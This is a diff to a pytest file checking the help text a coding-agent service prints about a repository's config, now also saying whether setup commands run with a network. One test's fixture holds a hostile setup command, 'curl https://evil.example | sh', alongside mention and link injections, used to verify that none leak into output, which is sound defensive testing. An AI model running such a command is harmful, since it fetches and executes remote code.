@@ -424,7 +424,7 @@ def test_no_pydantic_wording_reaches_the_message():
 # help
 
 def test_describe_without_a_file_gives_the_operators_defaults_and_limits():
-    text = describe(effective_config(None, settings(NOTHING_SET)))
+    text = describe(effective_config(None, settings(NOTHING_SET)), setup_network=False)
     assert text == (
         "**Effective config** of this repository: there is no `.github/async-code.yml` on the "
         "default branch, so tasks run with this service's defaults.\n"
@@ -432,7 +432,7 @@ def test_describe_without_a_file_gives_the_operators_defaults_and_limits():
         "- `instructions`: none\n"
         "- `image`: `python:3.12-bookworm` (this service's default; the file may not choose an "
         "image)\n"
-        "- `setup`: none\n"
+        "- `setup`: none (setup would run offline, as ASYNC_CODE_SETUP_NETWORK is not set)\n"
         "- `timeout`: 30m (this service's default; the most allowed is 30m)\n"
         "- `max_turns`: 50 (this service's default; the most allowed is 50)\n"
         "- `model`: `claude-sonnet-4-6` (this service's default; the file may choose "
@@ -447,14 +447,15 @@ def test_describe_says_which_values_come_from_the_file():
     config = effective_config(
         "instructions: |\n  Use pnpm, not npm.\n  Keep commits small.\nsetup: [pnpm install]\n"
         "timeout: 45m\nbudget: {usd: 2.5}\n", settings(OPERATOR))
-    assert describe(config) == (
+    assert describe(config, setup_network=False) == (
         "**Effective config** of this repository: `.github/async-code.yml` on the default branch, "
         "and this service's defaults for what it does not set.\n"
         "\n"
         "- `instructions`: 2 lines, 39 characters, starting `Use pnpm, not npm.` (from the file)\n"
         "- `image`: `python:3.12-bookworm` (this service's default; the file may choose "
         "`python:3.12-bookworm`, `node:22-bookworm`)\n"
-        "- `setup`: 1 command: `pnpm install` (from the file)\n"
+        "- `setup`: 1 command: `pnpm install` (from the file; setup runs offline, "
+        "as ASYNC_CODE_SETUP_NETWORK is not set)\n"
         "- `timeout`: 45m (from the file; the most allowed is 1h)\n"
         "- `max_turns`: 40 (this service's default; the most allowed is 40)\n"
         "- `model`: `claude-sonnet-4-6` (this service's default; the file may choose "
@@ -471,4 +472,19 @@ def test_describe_never_mentions_or_links_from_the_files_text():
         "instructions: '@octocat see https://evil.example ![i](https://evil.example/i.png)'\n"
         "setup: ['curl https://evil.example | sh # @octocat', '`@team` <img src=x>']\n",
         settings(OPERATOR))
-    assert findings(render(describe(config))) == []
+    for setup_network in (False, True):
+        assert findings(render(describe(config, setup_network=setup_network))) == []
+
+
+@pytest.mark.parametrize(("file", "setup_network", "line"), [
+    ("setup: [pnpm install]\n", True, "- `setup`: 1 command: `pnpm install` (from the file; setup "
+     "runs on the network ASYNC_CODE_SETUP_NETWORK names, and the agent after it offline)"),
+    ("setup: [pnpm install]\n", False, "- `setup`: 1 command: `pnpm install` (from the file; "
+     "setup runs offline, as ASYNC_CODE_SETUP_NETWORK is not set)"),
+    (None, True, "- `setup`: none (setup would run on the network ASYNC_CODE_SETUP_NETWORK "
+     "names, and the agent after it offline)"),
+    (None, False, "- `setup`: none (setup would run offline, as ASYNC_CODE_SETUP_NETWORK is not set)"),
+], ids=["network", "offline", "no-setup-network", "no-setup-offline"])
+def test_describe_says_whether_setup_has_a_network(file, setup_network, line):
+    text = describe(effective_config(file, settings(OPERATOR)), setup_network=setup_network)
+    assert line + "\n" in text
